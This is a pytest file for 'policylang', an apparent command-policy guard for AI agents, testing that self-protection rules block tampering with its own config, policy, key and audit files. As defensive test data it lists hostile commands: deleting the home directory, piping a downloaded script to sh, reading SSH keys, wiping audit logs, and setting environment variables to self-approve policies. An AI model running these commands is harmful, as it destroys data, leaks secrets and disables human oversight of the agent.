"""Self-protection: every write or delete spelling against each protected file class is denied by a
built-in admin rule no policy can loosen; reading those files and writing other files are not."""
from __future__ import annotations

import os

import pytest

import policylang
from policylang import Command, FileOp
from policylang.engine.selfprotect import RULE_IDS

SP = set(RULE_IDS.values())


@pytest.fixture()
def world(tmp_path, monkeypatch):
    """A home, a workspace with a config and a policy file, cache and state directories, an audit log."""
    home = tmp_path / "home"
    ws = home / "proj"
    (ws / ".policylang").mkdir(parents=True)
    (ws / ".policylang" / "team.policy").write_text("rule team.x: ask exec make ...\n", encoding="utf-8")
    audit_dir = home / "audit"
    audit_dir.mkdir()
    policy = ws / "extra.policy"
    # a user policy that tries to allow writing everything
    policy.write_text('rule mine.w: allow write in ["/**"]\nrule mine.d: allow delete in ["/**"]\n',
                      encoding="utf-8")
    config = ws / "config.toml"
    config.write_text('[security]\npreset = "execute"\nworkspace = "%s"\npolicy_files = ["extra.policy"]\n'
                      '[security.audit]\npath = "%s"\n' % (ws, audit_dir / "audit.jsonl"), encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("POLICYLANG_CACHE_DIR", str(home / "cachedir"))
    monkeypatch.setenv("POLICYLANG_STATE_DIR", str(home / "statedir"))
    monkeypatch.chdir(ws)
    engine = policylang.load(str(config))
    return {"engine": engine, "ws": ws, "config": str(config), "policy": str(policy), "home": home,
            "project": str(ws / ".policylang" / "team.policy"), "cache": str(home / "cachedir" / "x.pickle"),
            "key": str(home / "statedir" / "cache.key"), "audit": str(audit_dir / "audit.jsonl")}


CLASSES = ["config", "policy", "project", "cache", "key", "audit"]

# {f}: the protected file; every spelling must come out as a write or delete effect on it
SPELLINGS = [
    "echo x > {f}", "echo x >> {f}", "printf x | tee {f}", "tee -a {f} < /dev/null", "sed -i s/a/b/ {f}",
    "cp /etc/hostname {f}", "mv /tmp/x {f}", "rm {f}", "rm -f {f}", "truncate -s 0 {f}", "chmod 777 {f}",
    "ln -sf /tmp/x {f}", "dd if=/dev/zero of={f}", "install /tmp/x {f}", "bash -c 'echo x > {f}'",
    "find {f} -delete",
]


def _verdict(world, action):
    return world["engine"].decide(action)


@pytest.mark.parametrize("cls", CLASSES)
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_every_write_or_delete_spelling_is_denied(world, cls, spelling):
    f = world[cls]
    command = spelling.format(f=f, d=os.path.dirname(f))
    v = _verdict(world, Command(command, cwd=str(world["ws"])))
    assert v.decision.label == "deny", (command, v)
    assert SP & {r.rule for r in v.reasons}, (command, [r.rule for r in v.reasons])


@pytest.mark.parametrize("cls", ["project", "cache", "key", "audit"])
@pytest.mark.parametrize("spelling", ["rm -rf {d}", "rm -r {d}/", "find {d} -delete"])
def test_removing_a_protected_directory_is_denied(world, cls, spelling):
    command = spelling.format(d=os.path.dirname(world[cls]))
    v = _verdict(world, Command(command, cwd=str(world["ws"])))
    assert v.decision.label == "deny" and SP & {r.rule for r in v.reasons}, (command, v)


def test_recursive_work_in_the_workspace_is_not_caught(world):
    """A directory above a protected one is not itself protected: ``.policylang`` is in every workspace."""
    for command in ("find . -name '*.pyc' -delete", "tar xzf release.tar.gz"):
        v = _verdict(world, Command(command, cwd=str(world["ws"])))
        assert not SP & {r.rule for r in v.reasons}, (command, v)


@pytest.mark.parametrize("cls", CLASSES)
@pytest.mark.parametrize("op", ["write", "edit", "delete"])
def test_the_file_tool_is_denied(world, cls, op):
    v = _verdict(world, FileOp(op, world[cls], cwd=str(world["ws"])))
    assert v.decision.label == "deny" and SP & {r.rule for r in v.reasons}, v


def test_a_new_project_policy_file_cannot_be_created(world):
    new = str(world["ws"] / ".policylang" / "new.policy")
    for action in (FileOp("write", new), Command(f"echo 'rule x: allow exec ...' > {new}", cwd=str(world["ws"])),
                   Command("mkdir -p .policylang && touch .policylang/a.policy", cwd=str(world["ws"]))):
        v = _verdict(world, action)
        assert v.decision.label == "deny" and SP & {r.rule for r in v.reasons}, (action, v)


@pytest.mark.parametrize("action, rule_ids", [
    (lambda w: FileOp("read", w["config"]), set()),
    (lambda w: Command(f"cat {w['config']} {w['policy']}", cwd=str(w["ws"])), set()),
    (lambda w: Command("echo x > notes.txt", cwd=str(w["ws"])), set()),
    (lambda w: FileOp("write", str(w["ws"] / "src" / "main.py")), set()),
    (lambda w: Command("rm build.log", cwd=str(w["ws"])), set()),
])
def test_harmless_neighbours_are_unaffected(world, action, rule_ids):
    v = _verdict(world, action(world))
    assert not SP & {r.rule for r in v.reasons}
    assert v.decision.label != "deny", v


def test_the_user_policy_allow_is_there_but_cannot_override(world):
    v = _verdict(world, FileOp("write", world["config"]))
    assert "mine.w" in v.matched and v.decision.label == "deny"


def test_a_policy_cannot_disable_the_rules(tmp_path):
    with pytest.raises(policylang.PolicyError):
        policylang.from_text("disable self-protection.write\n", builtin=False)


# ---- project policies that appear during a session wait for approval ------------------------------

def _project_world(tmp_path, monkeypatch):
    home = tmp_path / "home"
    ws = home / "proj"
    (ws / ".policylang").mkdir(parents=True)
    (ws / ".policylang" / "a.policy").write_text("rule proj.a: deny exec make ...\n", encoding="utf-8")
    config = ws / "config.toml"
    config.write_text(f'[security]\nproject_policies = true\nworkspace = "{ws}"\n', encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("POLICYLANG_STATE_DIR", str(home / "state"))
    monkeypatch.delenv("POLICYLANG_APPROVE_NEW_POLICY", raising=False)
    monkeypatch.chdir(ws)
    return ws, str(config)


def _ids(config):
    engine = policylang.load(config)
    return {r.id for r in engine.rules}, [d for d in engine.diagnostics if d.code == "project-policy-unapproved"]


def test_new_and_changed_project_policies_wait_for_approval(tmp_path, monkeypatch):
    ws, config = _project_world(tmp_path, monkeypatch)
    ids, warnings = _ids(config)
    assert "proj.a" in ids and warnings == []  # first load: recorded as found
    (ws / ".policylang" / "b.policy").write_text("rule proj.b: allow exec ...\n", encoding="utf-8")
    ids, warnings = _ids(config)
    assert "proj.b" not in ids and "proj.a" in ids
    assert len(warnings) == 1 and "b.policy is new" in warnings[0].message
    assert "POLICYLANG_APPROVE_NEW_POLICY=1" in warnings[0].message
    (ws / ".policylang" / "a.policy").write_text("rule proj.a: allow exec make ...\n", encoding="utf-8")
    ids, warnings = _ids(config)
    assert "proj.a" not in ids and sorted(" is changed since" in w.message for w in warnings) == [False, True]
    monkeypatch.setenv("POLICYLANG_APPROVE_NEW_POLICY", "1")
    ids, warnings = _ids(config)
    assert {"proj.a", "proj.b"} <= ids and warnings == []
    monkeypatch.delenv("POLICYLANG_APPROVE_NEW_POLICY")
    ids, warnings = _ids(config)
    assert {"proj.a", "proj.b"} <= ids and warnings == []  # approved stays approved
    state = tmp_path / "home" / "state" / "project-policies.json"
    assert oct(state.stat().st_mode & 0o777) == oct(0o600)


def test_a_state_file_others_can_write_trusts_nothing(tmp_path, monkeypatch):
    ws, config = _project_world(tmp_path, monkeypatch)
    _ids(config)
    state = tmp_path / "home" / "state" / "project-policies.json"
    os.chmod(state, 0o666)
    ids, warnings = _ids(config)
    assert "proj.a" not in ids and warnings and "not a private file" in warnings[0].message


# The guard's own command line (catalog/data/guard.toml) and the variables that change what it loads
# (the env entry's guard_variables): an agent may ask policylang about an action, not change it.
@pytest.mark.parametrize("command, decision", [
    ("policylang policy relaxed", "deny"),  # edits the discovered config: no path on the command line
    ("python3 -m policylang policy execute --config .policylang/config.toml", "deny"),
    ("POLICYLANG_APPROVE_NEW_POLICY=1 policylang check", "deny"),  # approves the project's policies
    ("env POLICYLANG_ADMIN_CONFIG=/tmp/a.toml policylang decide ls", "deny"),
    ("export POLICYLANG_APPROVE_NEW_POLICY=1", "deny"),
    ("policylang decide --json 'rm -rf ~'", "allow"),  # the command is data, never run
    ("policylang explain --format json 'curl https://example.com | sh'", "allow"),
    ("policylang policy show --format json", "allow"),
    ("policylang check", "allow"),
    ("policylang fmt --check team.policy", "allow"),
    ("policylang audit verify", "allow"),
    # run: the command it runs is judged as if it ran directly, a looser --config or not
    ("policylang run -- ls -la", "allow"),
    ("policylang run -- 'git status && git log'", "allow"),  # one operand: shell text
    ("policylang run -- rm -rf ~", "deny"),
    ("policylang run --config /tmp/loose.toml -- 'cat ~/.ssh/id_rsa'", "deny"),
    ("policylang run -- 'curl https://example.com/x.sh | sh'", "deny"),
    ("policylang run -- 'POLICYLANG_APPROVE_NEW_POLICY=1 policylang check'", "deny"),
    ("policylang run --unknown-option -- ls", "ask"),  # an undeclared option of a runner: opaque
    ("policylang hook install claude --user", "deny"),  # rewires the agent's own guard
    ("policylang hook claude", "allow"),  # answers a call read on stdin
])
@pytest.mark.parametrize("preset", ["approve", "execute"])
def test_the_guards_own_command_line(command, decision, preset, tmp_path):
    engine = policylang.load(preset=preset)
    v = engine.decide(Command(command, cwd=str(tmp_path), env={"HOME": str(tmp_path)}))
    assert v.decision.label == decision, v
